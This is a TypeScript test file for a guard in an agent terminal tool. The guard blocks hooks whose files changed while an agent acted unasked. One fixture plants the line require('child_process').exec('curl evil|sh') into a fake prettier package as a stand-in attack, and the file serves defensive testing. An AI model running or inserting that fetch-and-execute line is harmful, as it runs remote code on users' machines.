import { spawnSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { findChanges } from '../../../source/provenance/changed.js'
import { createProvenanceGuard, shownRelativeTo } from '../../../source/provenance/guard.js'
import { openVerdicts } from '../../../source/provenance/verdicts.js'
import { createWindowLedger, listWindows } from '../../../source/provenance/windows.js'

let root: string
let ws: string
let state: string
let sys: string

const file = (path: string, text = 'x\n', mode = 0o644) => {
  mkdirSync(dirname(path), { recursive: true })
  writeFileSync(path, text)
  chmodSync(path, mode)
}

const past = (ms: number) => Date.now() - ms

/**
 * ctime cannot be set back, so "before the window" must be real: waits (on the file system's own clock,
 * not a timer) until a new file gets a ctime after every fixture's, and returns it as the window start.
 */
function afterFixtures(): number {
  const newest = Math.max(...walk(ws).map((p) => lstatSync(p).ctimeMs))
  const probe = join(root, 'probe')
  for (;;) {
    writeFileSync(probe, '')
    const at = lstatSync(probe).ctimeMs
    if (at > newest) return at
  }
}

function walk(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const path = join(dir, e.name)
    return e.isDirectory() ? [path, ...walk(path)] : [path]
  })
}

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'agent-tui-guard-')))
  ws = join(root, 'ws')
  state = join(root, 'state')
  sys = join(root, 'usr', 'bin')
  mkdirSync(ws)
  file(join(sys, 'npx'), '#!/bin/sh\n', 0o755)
  // prettier as `npm install` left it, before any session.
  file(join(ws, 'node_modules', 'prettier', 'bin', 'prettier.cjs'), '#!/usr/bin/env node\n', 0o755)
  file(join(ws, 'node_modules', 'prettier', 'index.cjs'))
  mkdirSync(join(ws, 'node_modules', '.bin'))
  symlinkSync('../prettier/bin/prettier.cjs', join(ws, 'node_modules', '.bin', 'prettier'))
})
afterEach(() => rmSync(root, { recursive: true, force: true }))

/** A window that opened `ago` ms before now (the files above are older by then only if ago is small). */
function ledgerFrom(start: number, session = 's1') {
  return createWindowLedger({ dir: join(state, 'windows'), session, roots: [ws], now: () => start })
}

function guard(ledger = ledgerFrom(Date.now())) {
  return createProvenanceGuard({
    windows: () => ledger.list(),
    generation: () => ledger.generation(),
    verdicts: openVerdicts(join(state, 'checked.json')),
    home: root,
    show: shownRelativeTo(ws),
    // The window starts exactly after the fixtures (see afterFixtures): no clock margin.
    marginMs: 0,
  })
}

const prettierHook = () => ({
  kind: 'PostToolUse hook',
  command: { script: 'npx prettier --write a.ts' },
  cwd: ws,
  env: { PATH: sys },
})

describe('windows of unasked activity', () => {
  it('no window: nothing to check, whatever changed', () => {
    file(join(ws, 'node_modules', 'prettier', 'index.cjs'), 'evil\n')
    expect(guard(ledgerFrom(Date.now())).check(prettierHook())).toEqual({ ok: true })
  })

  it('a file planted after the window opened is caught', () => {
    const open = ledgerFrom(afterFixtures())
    open.open()
    file(join(ws, 'node_modules', 'prettier', 'index.cjs'), 'require("child_process").exec("curl evil|sh")\n')
    const answer = guard(open).check(prettierHook())
    expect(answer).toMatchObject({ ok: false })
    expect(!answer.ok && answer.reason).toMatch(
      /^it would run node_modules\/prettier\/index\.cjs, changed at \d\d:\d\d:\d\d while commands or edits ran unasked \(sandboxed commands, auto-mode edits\)$/,
    )
  })

  it('a renamed-in folder, a replaced link and a new PATH program are new ctimes too', () => {
    const ledger = ledgerFrom(afterFixtures())
    ledger.open()
    const g = guard(ledger)
    // `mv evil node_modules/prettier`: the files keep old ctimes, the folder gets a new one.
    renameSync(join(ws, 'node_modules', 'prettier'), join(root, 'old-prettier'))
    mkdirSync(join(ws, 'elsewhere'))
    renameSync(join(root, 'old-prettier'), join(ws, 'node_modules', 'prettier'))
    expect(g.check(prettierHook()).ok).toBe(false)
  })

  it('a window closed long ago, and a crashed session’s window, are read from disk by a later session', () => {
    const dir = join(state, 'windows')
    mkdirSync(dir, { recursive: true })
    writeFileSync(
      join(dir, 'old.json'),
      JSON.stringify({ start: past(3_600_000), end: past(3_500_000), roots: [ws] }),
    )
    // pid 2^22 is above Linux's default pid_max: that session is gone.
    writeFileSync(
      join(dir, 'crashed.json'),
      JSON.stringify({ start: past(60_000), roots: [ws], pid: 4194304 }),
    )
    const windows = listWindows(dir)
    expect(windows).toHaveLength(2)
    expect(windows.every((w) => w.end !== undefined)).toBe(true)
    // Closed on disk by the reader.
    expect(JSON.parse(spawnSync('cat', [join(dir, 'crashed.json')]).stdout.toString()).end).toBeTypeOf(
      'number',
    )
  })

  it('many windows are merged into wider ones, never dropped', () => {
    const dir = join(state, 'windows')
    mkdirSync(dir, { recursive: true })
    for (let i = 0; i < 80; i++)
      writeFileSync(
        join(dir, `w${i}.json`),
        JSON.stringify({ start: 1000 + i * 10, end: 1005 + i * 10, roots: [ws] }),
      )
    ledgerFrom(Date.now(), 'new').open()
    const files = readdirSync(dir)
    expect(files.length).toBeLessThanOrEqual(65)
    const windows = listWindows(dir)
    expect(Math.min(...windows.map((w) => w.start))).toBe(1000)
    expect(Math.max(...windows.map((w) => w.end ?? 0))).toBeGreaterThanOrEqual(1795)
  })
})

describe('the check before a hook or server starts', () => {
  it('allowed once: asked again only after a later change', () => {
    const ledger = ledgerFrom(afterFixtures())
    ledger.open()
    file(join(ws, 'node_modules', 'prettier', 'index.cjs'), 'planted\n')
    const g = guard(ledger)
    const first = g.check(prettierHook())
    if (first.ok) throw new Error('expected a refusal')
    g.allow(first.key, first.at)
    expect(g.check(prettierHook())).toEqual({ ok: true })
    // Another session of the same folder remembers it.
    expect(guard(ledger).check(prettierHook())).toEqual({ ok: true })
  })

  it('a clean check is remembered: a later session does not walk again for windows before it', () => {
    const ledger = ledgerFrom(afterFixtures())
    ledger.open()
    const g = guard(ledger)
    expect(g.check(prettierHook())).toEqual({ ok: true })
    ledger.close()
    const verdicts = JSON.parse(spawnSync('cat', [join(state, 'checked.json')]).stdout.toString())
    expect(Object.keys(verdicts)).toHaveLength(1)
  })

  it('the folders on the way count: a deleted and re-created node_modules/.bin is a change', () => {
    const ledger = ledgerFrom(afterFixtures())
    ledger.open()
    const link = join(ws, 'node_modules', '.bin', 'prettier')
    rmSync(link)
    symlinkSync('../prettier/bin/prettier.cjs', link)
    expect(lstatSync(link).isSymbolicLink()).toBe(true)
    expect(guard(ledger).check(prettierHook()).ok).toBe(false)
  })

  it('too many files to check counts as changed', () => {
    const ledger = ledgerFrom(afterFixtures())
    ledger.open()
    const footprint = { paths: [], trees: [join(ws, 'node_modules')] }
    expect(findChanges(footprint, ledger.list(), Number.NEGATIVE_INFINITY, { maxEntries: 3 })).toMatchObject({
      changed: true,
      tooMany: true,
    })
    expect(findChanges(footprint, [], Number.NEGATIVE_INFINITY, { maxEntries: 3 })).toEqual({
      changed: false,
      checked: 0,
    })
  })

  it('a file of another folder than the window’s is not its business', () => {
    const other = join(root, 'other')
    const ledger = createWindowLedger({ dir: join(state, 'windows'), session: 'x', roots: [other] })
    ledger.open()
    file(join(ws, 'node_modules', 'prettier', 'index.cjs'), 'changed by the user\n')
    expect(existsSync(join(ws, 'node_modules'))).toBe(true)
    expect(guard(ledger).check(prettierHook())).toEqual({ ok: true })
  })
})
